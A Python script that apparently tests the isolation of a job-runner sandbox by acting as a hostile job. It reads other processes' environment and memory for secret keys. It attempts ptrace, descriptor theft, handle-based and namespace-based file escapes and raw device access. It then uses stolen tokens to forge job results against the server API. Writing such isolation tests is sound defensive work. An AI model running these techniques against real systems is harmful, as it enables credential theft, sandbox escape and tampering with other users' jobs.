"""A hostile job: looks for keys in everything that it can read, and tries to use what it finds. Prints JSON.

    python hostile.py CASE.json

The case names the keys to look for, spelled backwards, so that the job does not find them in its own files.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import re
import stat
import sys
import urllib.error
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PIDFD_OPEN, PIDFD_GETFD = 434, 438
BLKGETSIZE64 = 0x80081272
OPEN_TREE, OPEN_TREE_CLONE = 428, 1
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MAX_BYTES = 64 << 20


class Hunt:
    def __init__(self, case: dict) -> None:
        self.case = case
        self.keys = [key[::-1].encode() for key in case["keys"]]
        self.found: list[str] = []
        self.stolen: set[bytes] = set()

    def look(self, where: str, content: bytes) -> None:
        for key in self.keys:
            if key in content:
                self.found.append(where)
                self.stolen.add(key)

    def read(self, path: str) -> None:
        with contextlib.suppress(OSError, ValueError), open(path, "rb") as file:
            self.look(path, file.read(MAX_BYTES))

    def reached(self, what: str) -> None:
        self.found.append(what)

    # --- processes ------------------------------------------------------------------------------------------------

    def processes(self) -> None:
        mine = {os.getpid()}
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) not in mine:
                self.read(f"/proc/{pid}/environ")
                self.read(f"/proc/{pid}/cmdline")
        for pid in self.family():
            self.memory(pid)
            self.descriptors(pid)
            self.trace(pid)

    def family(self) -> list[int]:
        """The guard, the worker, and the server."""
        pids = [os.getppid()]
        with open(f"/proc/{pids[0]}/stat") as file:
            pids.append(int(file.read().rpartition(")")[2].split()[1]))
        return sorted({*pids, *self.case["pids"]})

    def memory(self, pid: int) -> None:
        with (
            contextlib.suppress(OSError),
            open(f"/proc/{pid}/maps") as maps,
            open(f"/proc/{pid}/mem", "rb", buffering=0) as mem,
        ):
            for line in maps:
                begin, end = (int(word, 16) for word in re.match(r"(\w+)-(\w+)", line).groups())
                with contextlib.suppress(OSError, OverflowError):
                    mem.seek(begin)
                    self.look(f"/proc/{pid}/mem", mem.read(min(end - begin, MAX_BYTES)))

    def descriptors(self, pid: int) -> None:
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    self.reached(f"/proc/{pid}/fd/{number} is {os.readlink(f'/proc/{pid}/fd/{number}')}")
        for link in ("root", "cwd"):
            with contextlib.suppress(OSError):
                os.listdir(f"/proc/{pid}/{link}/")
                self.reached(f"/proc/{pid}/{link}")

    def trace(self, pid: int) -> None:
        if LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            os.waitpid(pid, 0x40000000)
            LIBC.ptrace(PTRACE_DETACH, pid, 0, 0)
            self.reached(f"ptrace of {pid}")
        pidfd = LIBC.syscall(PIDFD_OPEN, pid, 0)
        for number in range(16):
            if pidfd >= 0 and LIBC.syscall(PIDFD_GETFD, pidfd, number, 0) >= 0:
                self.reached(f"descriptor {number} of {pid}")
        with contextlib.suppress(OSError, IndexError):
            with open(f"/proc/{pid}/stat") as file:
                stack = int(file.read().rpartition(")")[2].split()[25])
            buffer = ctypes.create_string_buffer(64)
            near = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
            far = (ctypes.c_void_p * 2)(stack, 64)
            if stack and LIBC.process_vm_readv(pid, near, 1, far, 1, 0) > 0:
                self.reached(f"process_vm_readv of {pid}")

    # --- files ----------------------------------------------------------------------------------------------------

    def files(self) -> None:
        for place in self.case["files"]:
            self.file(place)
            for folder, _, names in os.walk(place):
                for name in names:
                    self.file(os.path.join(folder, name))
                with contextlib.suppress(OSError), open(os.path.join(folder, "planted"), "w"):
                    self.reached(f"made a file in {folder}")
            moved = f"{place}-moved"
            with contextlib.suppress(OSError):
                os.rename(place, moved)
                os.rename(moved, place)
                self.reached(f"renamed {place}")

    def file(self, path: str) -> None:
        for way in (path, f"/proc/self/root{path}", f"/proc/{os.getppid()}/root{path}"):
            self.read(way)
        for make in (os.link, os.rename):
            with contextlib.suppress(OSError):
                make(path, "taken")
                self.reached(f"{make.__name__} of {path}")
                self.read("taken")
        with contextlib.suppress(OSError):
            os.symlink(path, "link")
            self.read("link")
            os.unlink("link")
        with contextlib.suppress(OSError):
            opened = self.by_handle(path)
            if os.path.isdir(path):  # of a folder nothing can be read but its names
                opened = os.open("admin.key", os.O_RDONLY, dir_fd=opened)
            os.read(opened, 1)
            self.reached(f"opened {path} by its handle")
        with contextlib.suppress(OSError), open(path, "ab"):
            self.reached(f"may write {path}")

    def by_handle(self, path: str) -> int:
        handle = (ctypes.c_uint32 * 34)(128)
        mount = ctypes.c_int()
        if LIBC.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) < 0:
            raise OSError(ctypes.get_errno(), "name_to_handle_at")
        for folder in ("/", os.path.dirname(path), os.getcwd(), "/tmp", "/dev/shm"):
            for at in self.mounts_of(folder):
                flags = os.O_PATH | os.O_DIRECTORY if os.path.isdir(path) else os.O_RDONLY
                opened = LIBC.open_by_handle_at(at, handle, flags)
                os.close(at)
                if opened >= 0:
                    return opened
        raise OSError(ctypes.get_errno(), "open_by_handle_at")

    def mounts_of(self, folder: str) -> list[int]:
        """The folder as it is, and in a mount of its own that nothing is above of."""
        found = []
        with contextlib.suppress(OSError):
            found.append(os.open(folder, os.O_RDONLY | os.O_DIRECTORY))
        clone = LIBC.syscall(OPEN_TREE, -100, folder.encode(), OPEN_TREE_CLONE)
        if clone >= 0:
            with contextlib.suppress(OSError):
                found.append(os.open(".", os.O_RDONLY | os.O_DIRECTORY, dir_fd=clone))
            os.close(clone)
        return found

    def files_in_a_namespace(self) -> None:
        """The same as the root of a user namespace of its own, which may clone mounts."""
        reading, writing = os.pipe()
        if (pid := os.fork()) == 0:
            with contextlib.suppress(BaseException):
                if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                    self.found = []
                    self.files()
                    os.write(writing, json.dumps(self.found).encode()[:4096])
            os._exit(0)
        os.close(writing)
        with open(reading) as file:
            content = file.read()
        os.waitpid(pid, 0)
        self.found += [f"in a namespace: {way}" for way in json.loads(content or "[]")]

    def devices(self) -> None:
        disks = []
        for folder, _, names in os.walk("/dev"):
            for name in names:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    if stat.S_ISBLK(os.lstat(path).st_mode):
                        disks.append(path)
        for path in (*disks, "/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"):
            with contextlib.suppress(OSError), open(path, "rb", buffering=0) as device:
                device.read(512)
                self.reached(path)
            with contextlib.suppress(OSError):
                descriptor = os.open(path, 3)  # for neither reading nor writing, but for commands to the device
                fcntl.ioctl(descriptor, BLKGETSIZE64, bytes(8))
                self.reached(f"commands to {path}")
        for path in disks[-1:]:
            with contextlib.suppress(OSError):
                os.mknod("disk", stat.S_IFBLK | 0o600, os.stat(path).st_rdev)
                os.open("disk", os.O_RDONLY)
                self.reached(f"a device of its own for {path}")

    # --- what it would be good for --------------------------------------------------------------------------------

    def chain(self) -> dict[str, list[int]]:
        """Steal, poll, read, forge: the server's answers to each."""
        env = os.environ
        keys = [key.decode() for key in self.stolen] or ["", env["TIMEBALL_FENCING_TOKEN"], env["TIMEBALL_RUN_ID"]]
        victim = self.case["victim"]
        forged = {
            "runId": victim["run"],
            "jobId": victim["job"],
            "attempt": 1,
            "token": 1,
            "serial": False,
            "outcome": {"type": "succeeded", "result": None},
            "age": 1,
            "took": 1,
        }
        session = "w_0"
        answers: dict[str, list[int]] = {}
        for key in keys:
            for step, method, path, body in (
                ("hello", "POST", "/v1/worker/hello", {"name": "thief", "slots": 4, "labels": ["elsewhere"]}),
                ("poll", "POST", "/v1/worker/poll", {"session": session, "seq": 1, "free": 4, "held": [], "wait": 0}),
                ("read", "GET", f"/v1/jobs/{victim['job']}", None),
                ("forge", "POST", "/v1/worker/report", {"session": session, "free": 1, "ended": [forged]}),
            ):
                status, answer = self.ask(key, method, path, body)
                answers.setdefault(step, []).append(status)
                session = answer.get("session", session)
                for assigned in answer.get("assignments", []):
                    self.reached(f"was handed {assigned}")
                    forged.update((name, assigned[name]) for name in ("runId", "jobId", "attempt", "token"))
        return answers

    def ask(self, key: str, method: str, path: str, body: dict | None) -> tuple[int, dict]:
        headers = {"Content-Type": "application/json", **({"Authorization": f"Bearer {key}"} if key else {})}
        content = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(self.case["url"] + path, content, headers, method=method)
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with opener.open(request, timeout=20) as answer:
                return answer.status, json.loads(answer.read() or b"{}")
        except urllib.error.HTTPError as error:
            return error.code, {}


def main() -> None:
    with open(sys.argv[1]) as file:
        hunt = Hunt(json.load(file))
    hunt.processes()
    if hunt.case["files"]:
        hunt.files()
        hunt.files_in_a_namespace()
        hunt.devices()
    print("HUNT", json.dumps({"uid": os.getuid(), "found": sorted(set(hunt.found)), "chain": hunt.chain()}))


if __name__ == "__main__":
    main()
